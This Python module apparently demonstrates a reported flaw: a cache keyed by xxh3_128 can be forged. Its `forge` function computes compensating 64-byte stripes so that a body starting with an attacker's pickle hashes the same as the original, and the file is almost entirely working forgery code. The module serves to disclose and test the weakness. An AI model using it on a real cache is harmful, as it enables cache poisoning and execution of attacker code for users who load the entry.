"""A second preimage of xxh3_128, as a writer of the cache can build one (issue 29, row 1).

xxh3 is fast, not cryptographic. For inputs over 240 bytes it adds, per 64-byte stripe and
per 64-bit lane ``i``, the lane's data ``d`` to ``acc[i ^ 1]`` and the product of the two
halves of ``d ^ secret`` to ``acc[i]``, scrambling the accumulators only after each block of
16 stripes; the result depends only on the accumulators and the length. Bytes whose key
half is zero add no product, so two such stripes can add any value to every accumulator:
a forger writes his pickle at the start of the first block and then two stripes that
compensate exactly, keeping the rest of the body. The secret is XXH3's public default.
"""

from __future__ import annotations

import struct

import xxhash

__all__ = ["forge"]

_SECRET = bytes.fromhex(
    "b8fe6c3923a44bbe7c01812cf721ad1cded46de9839097db7240a4a4b7b3671f"
    "cb79e64eccc0e578825ad07dccff7221b8084674f743248ee03590e6813a264c"
    "3c2852bb91c300cb88d0658b1b532ea371644897a20df94e3819ef46a9deacd8"
    "a8fa763fe39c343ff9dcbbc7c70b4f1d8a51e04bcdb45931c89f7ec9d9787364"
    "eac5ac8334d3ebc3c581a0fffa1363eb170ddd51b7f0da49d316552629d4689e"
    "2b16be587d47a1fc8ff8b8d17ad031ce45cb3a8f95160428afd7fbcabb4b407e")
_MASK = 2**64 - 1
_STRIPE = 64
_STRIPES_PER_BLOCK = 16


def _words(data: bytes) -> tuple[int, ...]:
    return struct.unpack("<8Q", data)


def _secret_words(stripe: int) -> tuple[int, ...]:
    return _words(_SECRET[8 * stripe:8 * stripe + _STRIPE])


def _contribution(stripe: int, data: bytes) -> list[int]:
    """What one stripe adds to the eight accumulators (mod 2**64)."""
    add = [0] * 8
    for i, (d, s) in enumerate(zip(_words(data), _secret_words(stripe), strict=True)):
        key = d ^ s
        add[i ^ 1] = (add[i ^ 1] + d) & _MASK
        add[i] = (add[i] + (key & 0xFFFFFFFF) * (key >> 32)) & _MASK
    return add


def forge(prefix: bytes, original: bytes, payload: bytes) -> bytes:
    """A body of ``len(original)`` bytes that starts with ``payload`` and whose xxh3_128
    after ``prefix`` equals the original's."""
    full = prefix + original
    free = (_STRIPES_PER_BLOCK - 2) * _STRIPE - len(prefix)  # stripes before the two
    if len(payload) > free or len(full) < _STRIPES_PER_BLOCK * _STRIPE + 2 * _STRIPE:
        raise ValueError("payload too long or body too short for one block's forgery")
    head = (prefix + payload).ljust((_STRIPES_PER_BLOCK - 2) * _STRIPE, b"\x00")
    target = [0] * 8
    for stripe in range(_STRIPES_PER_BLOCK):
        for i, v in enumerate(_contribution(stripe, full[_STRIPE * stripe:][:_STRIPE])):
            target[i] = (target[i] + v) & _MASK
    for stripe in range(_STRIPES_PER_BLOCK - 2):
        for i, v in enumerate(_contribution(stripe, head[_STRIPE * stripe:][:_STRIPE])):
            target[i] = (target[i] - v) & _MASK
    # Stripe a: lanes with key low half zero, data (hi << 32 | s_lo): adds d to acc[i ^ 1].
    # Stripe b: lanes with key high half zero, data (s_hi << 32 | lo): likewise.
    a_secret, b_secret = (_secret_words(_STRIPES_PER_BLOCK - 2),
                          _secret_words(_STRIPES_PER_BLOCK - 1))
    a, b = [0] * 8, [0] * 8
    for i in range(8):
        need = (target[i ^ 1] - (a_secret[i] & 0xFFFFFFFF)
                - (b_secret[i] & ~0xFFFFFFFF)) & _MASK
        a[i] = ((need >> 32) << 32) | (a_secret[i] & 0xFFFFFFFF)
        b[i] = (b_secret[i] & ~0xFFFFFFFF & _MASK) | (need & 0xFFFFFFFF)
    block = head + struct.pack("<8Q", *a) + struct.pack("<8Q", *b)
    forged = block[len(prefix):] + original[len(block) - len(prefix):]
    assert len(forged) == len(original)
    assert xxhash.xxh3_128(prefix + forged).digest() == xxhash.xxh3_128(full).digest()
    return forged
